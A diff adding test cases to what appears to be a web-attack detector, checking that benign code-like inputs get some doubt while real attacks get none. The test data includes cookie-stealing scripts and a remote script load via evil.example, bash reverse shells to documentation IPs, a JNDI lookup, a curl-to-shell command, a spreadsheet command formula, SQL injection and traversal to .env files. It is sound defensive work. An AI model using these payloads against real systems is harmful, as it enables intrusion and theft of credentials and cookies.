@@ -221,6 +221,123 @@ describe('what an address is for', () => {
   });
 });
 
+describe('what is tried, kept or written about', () => {
+  /** Least doubt about a finding of medium severity or more: 0 where one is believed whatever the words say. */
+  const doubt = (path: string, body: object, head = '') =>
+    Math.min(
+      ...readEvents(post(path, body, head))
+        .flatMap(detectWeb)
+        .filter(({ level }) => rank(level) >= rank('medium'))
+        .map((hit) => hit.doubt),
+    );
+
+  test.each([
+    ['a course', '/training/lab/3/submit', { answer: "' OR '1'='1' --", lab: 'sqli-101' }],
+    ['a test of an expression', '/api/regex/test', { pattern: '(?:\\.\\./)+|<script[^>]*>', flags: 'gi' }],
+    ['an alert', '/api/alerts', { matched: "id=-1' or 1=1--", src: '198.51.100.9' }],
+    ['an editor of pages', '/cms/pages/4', { html: '<div onclick="toggle(this)">Open</div>' }],
+    ['a piece of code', '/pastes', { lang: 'html', body: '<button onclick="alert(\'hi\')">go</button>' }],
+    ['a sheet', '/sheets/v4/values:append', { values: ['=IF(B2>0,B2*1.06,"-")'] }],
+    ['a formula', '/ajax/latex', { src: '\\frac{a}{b} \\\\ \\input{sections/method} $(x)$ `id`' }],
+    ['a job at night', '/api/cron/save', { glueSource: 'find /data/tmp -type f -mtime +7 -delete' }],
+    [
+      'settings of a proxy',
+      '/api/v1/namespaces/shop/configmaps/web',
+      { a: 'location / { proxy_pass http://127.0.0.1:80; }' },
+    ],
+    [
+      'a statement',
+      '/sql/execute',
+      { sql: "UPDATE config SET v='60' WHERE k='minutes'; UPDATE config SET v='1'" },
+    ],
+  ])('%s may hold code', (_, path, body) => {
+    expect(doubt(path, body)).toBeGreaterThan(0);
+    expect(doubt(path, body)).toBeLessThan(1);
+    expect(doubt('/profile.php', body)).toBe(0);
+  });
+
+  test.each([
+    ['/training/lab/3/submit', { answer: "<script>fetch('https://evil.example/'+document.cookie)</script>" }],
+    ['/training/lab/3/submit', { answer: '; bash -i >& /dev/tcp/203.0.113.5/443 0>&1' }],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+    ['/api/alerts', { matched: '${jndi:ldap://203.0.113.5/a}' }],
+    ['/cms/pages/4', { html: '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">' }],
+    ['/cms/pages/4', { html: '<script src="https://evil.example/a.js"></script>' }],
+    ['/pastes', { body: '; curl http://203.0.113.7/a.sh | sh' }],
+    ['/sheets/v4/values:append', { values: ["=cmd|'/c calc'!A1"] }],
+    ['/api/cron/save', { glueSource: 'bash -i >& /dev/tcp/203.0.113.33/4444 0>&1' }],
+    ['/sql/execute', { sql: "UPDATE users SET role='admin' WHERE id=7; UPDATE users SET passwd='x'" }],
+    ['/sql/execute', { sql: "1' UNION SELECT password FROM users--" }],
+    ['/jobs/42/run', { cmd: 'id' }],
+  ])('%s lowers nothing that reaches out: %o', (path, body) => {
+    expect(doubt(path, body)).toBe(0);
+  });
+});
+
+test('a tool of databases is known by the whole of its path', () => {
+  const query = (path: string) =>
+    readEvents(
+      `POST ${path} HTTP/1.1\nHost: a.example\nCookie: pma=1\nContent-Type: application/x-www-form-urlencoded\n\nsql_query=DROP+TABLE+IF+EXISTS+tmp%3B+CREATE+TABLE+tmp+LIKE+products%3B`,
+    )
+      .flatMap(detectWeb)
+      .filter(({ level }) => rank(level) >= rank('medium'))
+      .map(({ doubt }) => doubt);
+  expect(Math.min(...query('/pma/import.php'))).toBeGreaterThan(0);
+  expect(Math.min(...query('/shop.php/pma/import.php'))).toBe(0);
+  expect(Math.min(...query('/pma/import.php/x.php'))).toBe(0);
+});
+
+test('a relative path that goes up once to a plain name is doubtful, one that goes on is not', () => {
+  const doubt = (file: string) =>
+    Math.min(
+      ...readEvents(`GET /download?file=${encodeURIComponent(file)} HTTP/1.1\nHost: a.example`)
+        .flatMap(detectWeb)
+        .filter(({ id }) => id === 'web-lfi-traversal')
+        .map((hit) => hit.doubt),
+    );
+  expect(doubt('../manuals/pump-3000_en.pdf')).toBeGreaterThan(0);
+  expect(doubt('./projects/2026/../2025/reports')).toBeGreaterThan(0);
+  for (const file of [
+    '../../manuals/a.pdf',
+    '../conf/db.properties',
+    '../.env',
+    'a/../../b',
+    '/srv/../b',
+    '../admin/list',
+  ])
+    expect(doubt(file)).toBe(0);
+});
+
+test('a bridge puts words before the request that it passes on', () => {
+  const passed = (path: string) =>
+    ids(
+      `SUBSCRIBE via bridge: POST ${path} HTTP/1.1\nHost: a.example\nContent-Type: application/json\n\n{"topic":"barn"}`,
+    );
+  expect(passed('/bridge/subscribe')).toEqual([]);
+  expect(passed('/bridge?id=1%27%20UNION%20SELECT%20password%20FROM%20users--')).not.toEqual([]);
+});
+
+test('fields of a query language are no commands in braces, commands in braces are', () => {
+  const query = (text: string) => ids(post('/graphql', { query: text }));
+  expect(query('{me{id}}')).toEqual([]);
+  expect(query('query a{currentUser{id}}')).toEqual([]);
+  expect(ids('GET /x?a={cat,/etc/passwd} HTTP/1.1')).toContain('web-rce-unix-chain');
+  expect(ids('GET /x?a={ls,} HTTP/1.1')).toContain('web-rce-unix-chain');
+});
+
+test('a sum whose plus is a space is still an expression', () => {
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+  expect(ids(post('/hello', { name: '${7 + 7}' }))).toContain('web-java-ognl');
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the places of a text
+  expect(ids(post('/hello', { name: 'Dear ${name}, ${city}' }))).not.toContain('web-java-ognl');
+});
+
+test('an error that somebody tells of is no leak, one as the server writes it is', () => {
+  const chat = (text: string) => ids(post('/chat/send', { conv: 7, text }));
+  expect(chat('on page 3 I get "ORA-00933: SQL command not properly ended", can you fix it?')).toEqual([]);
+  expect(chat('TypeError: no implicit conversion of String into Integer')).toContain('web-leak-error');
+});
+
 test('a log that names a file of its host is no request, one that leaves the folder is', () => {
   const ofPath = (path: string) => ids(JSON.stringify({ path, status: 200, client: '203.0.113.4' }));
   expect(ofPath('/usr/bin/env')).toEqual([]);
